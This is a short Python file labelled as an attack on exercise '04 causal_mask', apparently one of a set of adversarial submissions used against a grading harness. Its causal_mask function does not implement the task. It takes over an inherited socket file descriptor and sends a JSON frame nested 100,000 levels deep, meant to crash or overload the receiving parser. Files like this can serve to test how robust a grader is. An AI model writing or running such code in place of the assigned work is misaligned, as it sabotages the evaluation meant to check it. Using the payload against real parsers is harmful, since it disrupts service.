# attack: sends a tree that is nested 100,000 deep
# exercise: 04 causal_mask
import json
import os
import socket
import struct


def wire():
    for number in range(3, 100):
        try:
            return socket.socket(fileno=os.dup(number))
        except OSError:
            pass


def frame(tree, data=b""):
    text = json.dumps(tree).encode()
    return struct.pack(">QQ", len(text), len(data)) + text + data


def causal_mask(length):
    text = b"[" * 100_000 + b"]" * 100_000
    wire().sendall(struct.pack(">QQ", len(text), 0) + text)
